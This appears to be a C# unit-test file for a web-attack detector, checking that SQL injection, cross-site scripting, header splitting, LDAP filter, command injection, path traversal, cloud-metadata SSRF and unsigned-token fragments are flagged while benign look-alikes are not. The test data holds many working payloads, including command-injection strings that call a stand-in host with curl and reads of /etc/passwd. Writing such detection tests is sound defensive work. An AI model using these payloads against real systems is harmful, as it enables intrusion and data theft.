using System.Text;
using NetHawk.Capture.Peek;
using NetHawk.Core.Detectors;
using NetHawk.Core.Detectors.WebAttack;
using NetHawk.Core.Peek;

namespace NetHawk.Tests.Detectors;

/// <summary>Values that break out of a query, a page, a filter or a header, beside those that only look like it.</summary>
public class WebFragmentTests
{
    [Theory]
    [InlineData("1 and 1=1")]
    [InlineData("-1) or (8731=8731) and (1=1")]
    [InlineData("1' order by 3-- -")]
    [InlineData("admin') or exists(select 1 from users)#")]
    [InlineData("12' in boolean mode) rlike (select (case when (7449=7449) then 1 else 0x28 end))#")]
    [InlineData("7); select dbms_pipe.receive_message(chr(122)||chr(105),5) from dual--")]
    [InlineData("5;declare @s varchar(8000)")]
    [InlineData("5; exec master..xp_cmdshell 'dir'")]
    [InlineData("9' ; if(9919=9919) select 9919 else drop function zcbb--")]
    [InlineData("1,(select (case when (4326=7972) then 1 else 4326*(select 4326 from master..sysdatabases) end))")]
    [InlineData("foo'||(select 'gshx' from dual)||'")]
    [InlineData("foo) and 8142=(select count(*) from rdb$fields as t1,rdb$types as t2)--")]
    [InlineData("1\") procedure analyse(extractvalue(9414,concat(0x5c,0x71)),1)#")]
    [InlineData("exp(~(select * from (select concat(0x71,(select (elt(7823=7823,1)))))x))")]
    [InlineData("76' and substring(version(),1,1)=3/*")]
    [InlineData("x' and pi()=pi()--")]
    [InlineData("1 union select table_name")]
    public void A_fragment_of_a_query_is_told(string value) => Assert.True(SqlFragment.Is(value));

    [Theory]
    [InlineData("project = \"abc\" and (status = \"open\" or \"epic link\" = x-1)")]
    [InlineData("\"apple\" and \"pear\" -- fruit")]
    [InlineData("title:\"x\" and year>2000")]
    [InlineData("rock 'n' roll and more")]
    [InlineData("dogs' and cats' food = cheap")]
    [InlineData("5' and 6' = 11 feet")]
    [InlineData("size 5 or 6 in red")]
    [InlineData("5 or 6 in red")]
    [InlineData("10 - select your size")]
    [InlineData("2; select a date")]
    [InlineData("1; exec will create the case 7")]
    [InlineData("select name from users where age > 5 and city = 'ulm'")]
    [InlineData("how to stop ' or 1=1 in a form")]
    [InlineData("(one) and (two)")]
    [InlineData("5685587||order=||section_id=||pages")]
    [InlineData("8 (800) 555-35-35; call before 5")]
    [InlineData("let a = b; // it's")]
    public void Words_measures_and_whole_conditions_are_none(string value) => Assert.False(SqlFragment.Is(value));

    [Theory]
    [InlineData("<a href=\"&#x20;jav&#x61;script&colon;alert&lpar;1)\">x</a>")]
    [InlineData("\" onmouseover=alert(1) x=\"")]
    [InlineData("<object data=data:text/html;base64,phn2zy9vbmxvywq9ywxlcnqomik></object>")]
    [InlineData("<div style=\"width:expression(alert(1))\">")]
    [InlineData("<math><a xlink:href=//192.0.2.4/x>click")]
    [InlineData("<style/onload=!-alert(1)>")]
    public void What_would_run_in_a_page_is_told(string value) => Assert.True(HtmlFragment.Is(value));

    [Theory]
    [InlineData("a < b && b > c")]
    [InlineData("<b>bold</b> on monday")]
    [InlineData("onload=ready")]
    [InlineData("pair<int, string> position = 5")]
    [InlineData("on=1; style of data = text")]
    [InlineData("<meta name=\"viewport\" content=\"width=device-width\">")]
    public void Angle_brackets_and_call_backs_are_not(string value) => Assert.False(HtmlFragment.Is(value));

    [Theory]
    [InlineData("/go?to=x%0d%0aSet-Cookie:%20a=b", true)]
    [InlineData("/go?to=x%250aLocation%253a%20http://192.0.2.4", true)]
    [InlineData("/note?text=first%0d%0asecond:%20line", false)]
    [InlineData("/note?hash=40a5:location:", false)]
    public void A_header_behind_a_lines_end_is_told(string target, bool isTold) => Assert.Equal(isTold ? WebPattern.HeaderSplit : WebPattern.None, WebPatterns.InTarget(target));

    [Theory]
    [InlineData("/find?user=*)(uid=*))(|(uid=*", WebPattern.Filter)]
    [InlineData("/find?user=admin)(%26)(password=*))", WebPattern.Filter)]
    [InlineData("/find?user=admin)(%26(objectclass=*)", WebPattern.Filter)]
    [InlineData("/find?filter=(objectcategory=group)(%26(a:1.2.840.113556.1.4.803:=2)(b=3))", WebPattern.None)]
    [InlineData("/find?note=done)%20(closes:%20x", WebPattern.None)]
    [InlineData("/run?x=eval(base64_decode('aWQ='));", WebPattern.Command)]
    [InlineData("/run?x=print(md5(31337));", WebPattern.Command)]
    [InlineData("/search?q=system+design+(part+2)", WebPattern.None)]
    [InlineData("/images/..%2finfo.html", WebPattern.Traversal)]
    [InlineData("/schemas/../common.xsd", WebPattern.None)]
    [InlineData("/view?part=..%2fmenu.js", WebPattern.None)]
    [InlineData("/images/x.php?c=whoami", WebPattern.Command)]
    [InlineData("/search?q=whoami", WebPattern.None)]
    [InlineData("/help.php?q=whoami+command", WebPattern.None)]
    [InlineData("/search?q=%2Fetc%2Fpasswd+explained", WebPattern.None)]
    [InlineData("/page?file=%2Fetc%2Fpasswd", WebPattern.Traversal)]
    [InlineData("/page?file=%2Fetc%2Fpasswd+%26%26+id", WebPattern.Command)]
    [InlineData("/page?file=php/etc/passwd+x", WebPattern.Traversal)]
    [InlineData("/search?q=cmd.exe+not+found", WebPattern.None)]
    [InlineData("/run?x=cmd.exe+/c+dir", WebPattern.Command)]
    [InlineData("/x;{curl,http://192.0.2.4/a};", WebPattern.Command)]
    [InlineData("/ping?h=1%26ipconfig", WebPattern.Command)]
    public void Filters_and_calls_of_code_are_told(string target, object pattern) => Assert.Equal((WebPattern)pattern, WebPatterns.InTarget(target));

    [Theory]
    [InlineData("id=1+UNION+SELECT+1,2,3")]
    [InlineData("page=../../../etc/passwd&ok=1")]
    [InlineData("id=1+AND+5=5")]
    [InlineData("id=0/*!50000union*//*!50000select*/1,2")]
    [InlineData("ip=127.0.0.1%0Acat+/etc/passwd&ok=1")]
    [InlineData("name=x%22%29%3Bos.system%28%22curl+http%3A//192.0.2.4%22%29")]
    [InlineData("q=\\u0027%2b%7bClass.forName(\\u0027javax.script.ScriptEngineManager\\u0027)")]
    public void A_form_needs_no_odd_sign_to_be_read(string body) => Assert.NotEqual(WebPattern.None, WebPatterns.InBody(body, out _));

    [Theory]
    [InlineData("list=milk%0Acat+food%0Abread")]
    [InlineData("text=the+system+(%22old%22)+is+down")]
    [InlineData("script=println(%22id%22.execute().text)%3B+os.system(%22ls%22)")]
    [InlineData("name=O%27Hara+and+sons&city=Ulm")]
    [InlineData("where=a%3D1+and+b%3D2&order=5")]
    public void A_form_that_somebody_fills_in_is_none(string body) => Assert.Equal(WebPattern.None, WebPatterns.InBody(body, out _));

    /// <summary>A field that is an address where the server is to ask for somebody; who writes about one, or names a public page, a file of his own or an inner host, asks for nothing.</summary>
    [Theory]
    [InlineData("{\"webhook\":\"http://169.254.169.254/latest/meta-data/\"}", true)]
    [InlineData("url=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F", true)]
    [InlineData("{\"feed\":\"gopher://127.0.0.1:6379/_INFO\"}", true)]
    [InlineData("{\"text\":\"ask http://169.254.169.254/latest/meta-data/ from the machine itself\"}", false)]
    [InlineData("{\"webhook\":\"https://hooks.example/T1/B2\"}", false)]
    [InlineData("{\"uri\":\"file:///home/me/notes.txt\"}", false)]
    [InlineData("{\"url\":\"http://169.254.169.25/\"}", false)]
    [InlineData("{\"target\":\"http://10.0.0.7:9100/metrics\"}", false)]
    public void An_address_to_be_passed_on_is_told_from_one_that_is_spoken_of(string body, bool told) =>
        Assert.Equal(told ? WebPattern.InnerService : WebPattern.None, WebPatterns.InBody(body, out _));

    [Theory]
    [InlineData("Cookie: lang=en; id=1'+AND+SLEEP(5)--+-", true)]
    [InlineData("Cookie: id=%27%20or%201%3d1--%20-", true)]
    [InlineData("Cookie: last=<script>alert(1)</script>", true)]
    [InlineData("Cookie: SESSID=/../../../opt/x`curl${IFS}192.0.2.4`", true)]
    [InlineData("Referer: http://shop.example/item' AND 1=1-- -", true)]
    [InlineData("Referer: <script>alert(1)</script>", true)]
    [InlineData("Cookie: prefs={\"a\":(1),\"name\":\"O'Hara\"}; ids=(1)|(2)", false)]
    [InlineData("Cookie: q=it%27s%20(nice)", false)]
    [InlineData("Referer: https://search.example/?q=how+to+stop+%27+or+1%3D1", false)]
    public void What_a_browser_gives_back_is_read_too(string header, bool isTold)
    {
        var request = HttpPeek.Request(Encoding.ASCII.GetBytes($"GET / HTTP/1.1\r\nHost: shop.example\r\n{header}\r\n\r\n"), fromResponder: false);
        Assert.Equal(isTold, WebPatterns.InContext(request.OddContext) != WebPattern.None);
    }

    [Fact]
    public void What_a_cookie_or_form_held_is_not_shown()
    {
        var run = new Events(new WebAttackDetector(Events.Context()));
        var form = new HttpRequest("POST", "/login.php", "shop.example", "Mozilla/5.0", true, false, 60, "user=admin'+or+1=1--+-&password=hunter2");
        var visit = new HttpRequest("GET", "/", "shop.example", "Mozilla/5.0", true, false, -1, "") { OddContext = "session=hunter2; id=1' or 1=1-- -" };
        run.Session("203.0.113.7", "10.0.0.5", 80, application: AppProtocol.Http, peeks: [form, new HttpResponse(200, "nginx", 10) { FromResponder = true }]);
        run.Session("203.0.113.8", "10.0.0.5", 80, application: AppProtocol.Http, peeks: [visit, new HttpResponse(200, "nginx", 10) { FromResponder = true }]);
        run.Session("203.0.113.9", "10.0.0.5", 80, application: AppProtocol.Http, peeks: [form with { BodyStart = "" }, new HttpBody(form.BodyStart), new HttpResponse(200, "nginx", 10) { FromResponder = true }]);
        Assert.Equal(3, run.Found.Count);
        Assert.All(run.Found, static e => Assert.DoesNotContain("hunter2", e.Reason, StringComparison.Ordinal));
    }

    /// <summary>A program of a developer's writes the heads of its tokens one way, whatever it asks for; who tries ways past a check writes them in several.</summary>
    [Theory]
    [InlineData("none", "none", "none", "none", true)]
    [InlineData("none", "None", "NONE", "nOnE", false)]
    public void Tokens_that_nobody_signed_block_where_they_are_tried_in_several_ways(string a, string b, string c, string d, bool watched)
    {
        var run = new Events(new WebAttackDetector(Events.Context()));
        string[] ways = [a, b, c, d];
        for (int i = 0; i < ways.Length; i++)
        {
            var request = new HttpRequest("GET", $"/api/users/{i}", "shop.example", "Mozilla/5.0", true, false, -1, "") { OddContext = $"{{\"alg\":\"{ways[i]}\"}}" };
            run.Session("203.0.113.7", "10.0.0.5", 80, application: AppProtocol.Http, peeks: [request, new HttpResponse(401, "nginx", 10) { FromResponder = true }]);
        }

        Assert.Equal(watched, run.Found.TrueForAll(static e => e.WatchOnly is not null));
        Assert.NotEmpty(run.Found);
    }

    [Fact]
    public void Each_form_with_another_injection_counts_and_the_same_one_once()
    {
        int Hits(Func<int, string> body)
        {
            var run = new Events(new WebAttackDetector(Events.Context()));
            for (int i = 0; i < 12; i++)
            {
                var request = new HttpRequest("POST", "/login.php", "shop.example", "Mozilla/5.0", true, false, 60, body(i));
                run.Session("203.0.113.7", "10.0.0.5", 80, application: AppProtocol.Http, peeks: [request, new HttpResponse(200, "nginx", 10) { FromResponder = true }]);
            }

            return run.Found.Count(static e => e.Decisive);
        }

        Assert.True(Hits(static i => $"user=admin'+or+{i}={i}--+-") > 0);
        Assert.Equal(0, Hits(static _ => "user=admin'+or+1=1--+-"));
    }
}
